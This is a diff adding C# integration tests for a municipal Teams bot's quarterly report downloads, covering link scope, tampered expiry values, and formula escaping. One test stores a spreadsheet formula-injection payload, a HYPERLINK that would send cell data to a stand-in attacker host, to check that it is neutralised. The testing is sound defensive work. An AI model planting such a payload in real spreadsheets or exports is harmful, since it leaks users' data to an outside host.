@@ -14,7 +14,8 @@ namespace LeanTeamsApp.IntegrationTests.Reports;
 /// <summary>
 /// The quarterly report for Q3 2026 on a fake clock (Monday 5 October 2026), from a seeded quarter: Byggesak (board
 /// meeting on Thursdays) reported three meetings, one of them on 2 July in a week that began in June; Vann og avløp
-/// (Mondays) reported 29 June, in the same ISO week but the previous quarter; one Gemba walk was recorded.
+/// (Mondays) reported 29 June, in the same ISO week but the previous quarter; one Gemba walk was recorded. The tab's
+/// download is reached through the development sign-in, so the host opts in to it.
 /// </summary>
 public sealed class ReportTests : IAsyncLifetime
 {
@@ -24,7 +25,7 @@ public sealed class ReportTests : IAsyncLifetime
 
     public async Task InitializeAsync()
     {
-        _bot = await BotHost.StartAsync(time: _clock);
+        _bot = await BotHost.StartAsync(DevelopmentSignIn.Settings(), time: _clock, environment: DevelopmentSignIn.Environment);
         await SeedAsync();
     }
 
@@ -115,6 +116,109 @@ public sealed class ReportTests : IAsyncLifetime
 
         var units = csv.Split("\r\n", StringSplitOptions.RemoveEmptyEntries).Skip(1).SkipLast(1).Select(l => l.Split(';')[0]).Distinct();
         Assert.Equal(["Helse og omsorg"], units);
+    }
+
+    [Fact]
+    public async Task DownloadLinks_ServiceAreaLeader_CarryTheirAreaAndNoEmailAddress()
+    {
+        await _bot.SayAsync(_bot.Activities.PersonalMessage(_bot.HelseLeader, "rapport K3 2026"));
+        var leaderLinks = Links();
+        await _bot.SayAsync(_bot.Activities.PersonalMessage(_bot.Coordinator, "rapport K3 2026"));
+        var coordinatorLinks = Links();
+
+        Assert.All(leaderLinks.Concat(coordinatorLinks), l =>
+        {
+            var url = Uri.UnescapeDataString(l.Url);
+            Assert.DoesNotContain("@", url, StringComparison.Ordinal);
+            Assert.DoesNotContain("leader=", url, StringComparison.Ordinal);
+            Assert.DoesNotContain("tol.helse", url, StringComparison.Ordinal);
+        });
+        Assert.All(leaderLinks, l => Assert.Contains("&areas=helse-og-omsorg&", l.Url, StringComparison.Ordinal));
+        Assert.All(coordinatorLinks, l => Assert.DoesNotContain("areas=", l.Url, StringComparison.Ordinal));
+    }
+
+    [Fact]
+    public async Task DownloadLink_ServiceAreaLeadersScopeWidenedOrDropped_IsRefused()
+    {
+        await _bot.SayAsync(_bot.Activities.PersonalMessage(_bot.HelseLeader, "rapport K3 2026"));
+        using var client = _bot.App.CreateClient();
+        var csv = Links().Single(l => l.Title == "Last ned CSV").Url;
+
+        using var genuine = await client.GetAsync(csv);
+        using var widened = await client.GetAsync(csv.Replace("areas=helse-og-omsorg", "areas=helse-og-omsorg%2Csamfunn-og-teknikk", StringComparison.Ordinal));
+        using var swapped = await client.GetAsync(csv.Replace("areas=helse-og-omsorg", "areas=samfunn-og-teknikk", StringComparison.Ordinal));
+        using var dropped = await client.GetAsync(csv.Replace("&areas=helse-og-omsorg", "", StringComparison.Ordinal));
+
+        Assert.Equal(HttpStatusCode.OK, genuine.StatusCode);
+        Assert.Equal((HttpStatusCode.Forbidden, HttpStatusCode.Forbidden, HttpStatusCode.Forbidden), (widened.StatusCode, swapped.StatusCode, dropped.StatusCode));
+        Assert.DoesNotContain("Byggesak", await dropped.Content.ReadAsStringAsync(), StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public async Task TabDownloadAndBotLink_ServiceAreaLeader_GiveTheSameFile()
+    {
+        await _bot.SayAsync(_bot.Activities.PersonalMessage(_bot.HelseLeader, "rapport 2026"));
+        using var client = _bot.App.CreateClient();
+        var signing = _bot.App.Services.GetRequiredService<LeanTeamsApp.Infrastructure.Auth.DevSigningKey>();
+        // Signed for the real clock: the token's lifetime is checked against it, not against this test's fake clock.
+        var token = LeanTeamsApp.Infrastructure.Auth.TabAuthModule.IssueDevToken(signing, _bot.TenantId, "tol.helse@fjordvik.kommune.no", "Kari Nordby", DateTimeOffset.UtcNow);
+        using var request = new HttpRequestMessage(HttpMethod.Get, "/api/tab/reports/2026.csv?lang=nb");
+        request.Headers.Authorization = new System.Net.Http.Headers.AuthenticationHeaderValue("Bearer", token);
+
+        var fromLink = await client.GetByteArrayAsync(Links().Single(l => l.Title == "Last ned CSV").Url);
+        using var fromTab = await client.SendAsync(request);
+
+        Assert.Equal(HttpStatusCode.OK, fromTab.StatusCode);
+        Assert.Equal(fromLink, await fromTab.Content.ReadAsByteArrayAsync());
+        Assert.Contains("Fjordtun sykehjem", Encoding.UTF8.GetString(fromLink), StringComparison.Ordinal);
+        Assert.DoesNotContain("Byggesak", Encoding.UTF8.GetString(fromLink), StringComparison.Ordinal);
+    }
+
+    // Whatever a link's expiry says, the answer is a refusal: never a 500 (a date past year 9999 once was one).
+    [Theory]
+    [InlineData("253402300800")]
+    [InlineData("9223372036854775807")]
+    [InlineData("-9223372036854775808")]
+    [InlineData("0")]
+    [InlineData("99999999999999999999")]
+    [InlineData("1e12")]
+    [InlineData("")]
+    public async Task DownloadLink_ExpiryAlteredToAnyValue_IsRefusedNever500(string expires)
+    {
+        await _bot.SayAsync(_bot.Activities.PersonalMessage(_bot.Coordinator, "rapport K3 2026"));
+        using var client = _bot.App.CreateClient();
+        var csv = Links().Single(l => l.Title == "Last ned CSV").Url;
+        var genuine = System.Text.RegularExpressions.Regex.Match(csv, "expires=([0-9]+)").Groups[1].Value;
+
+        using var response = await client.GetAsync(csv.Replace($"expires={genuine}", $"expires={expires}", StringComparison.Ordinal));
+
+        Assert.Equal(HttpStatusCode.Forbidden, response.StatusCode);
+        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
+    }
+
+    [Fact]
+    public async Task CsvLink_UnitNamedLikeAFormula_ReachesExcelAsText()
+    {
+        const string Formula = "=HYPERLINK(\"https://evil.example/?d=\"&A1;\"Byggesak\")";
+        var unit = (await _bot.App.Store.GetUnitAsync(_bot.TenantId, "byggesak", default))!;
+        Assert.Equal(LeanTeamsApp.Features.Organisation.WriteOutcome.Written, (await _bot.App.Store.SaveUnitAsync(_bot.TenantId, unit with { Name = Formula }, default)).Outcome);
+        await _bot.SayAsync(_bot.Activities.PersonalMessage(_bot.Coordinator, "rapport K3 2026"));
+        using var client = _bot.App.CreateClient();
+
+        var csv = Encoding.UTF8.GetString((await client.GetByteArrayAsync(Links().Single(l => l.Title == "Last ned CSV").Url))[3..]);
+        using var workbook = new XLWorkbook(new MemoryStream(await client.GetByteArrayAsync(Links().Single(l => l.Title == "Last ned Excel").Url)));
+
+        using var reader = new CsvHelper.CsvReader(new StringReader(csv), new CsvHelper.Configuration.CsvConfiguration(CultureInfo.GetCultureInfo("nb-NO")));
+        var names = new List<string>();
+        while (reader.Read())
+        {
+            names.Add(reader.GetField(1)!);
+        }
+
+        Assert.Contains("'" + Formula, names);
+        Assert.DoesNotContain(Formula, names);
+        var cell = workbook.Worksheet(1).CellsUsed().Single(c => c.GetString() == Formula);
+        Assert.False(cell.HasFormula);
     }
 
     [Theory]
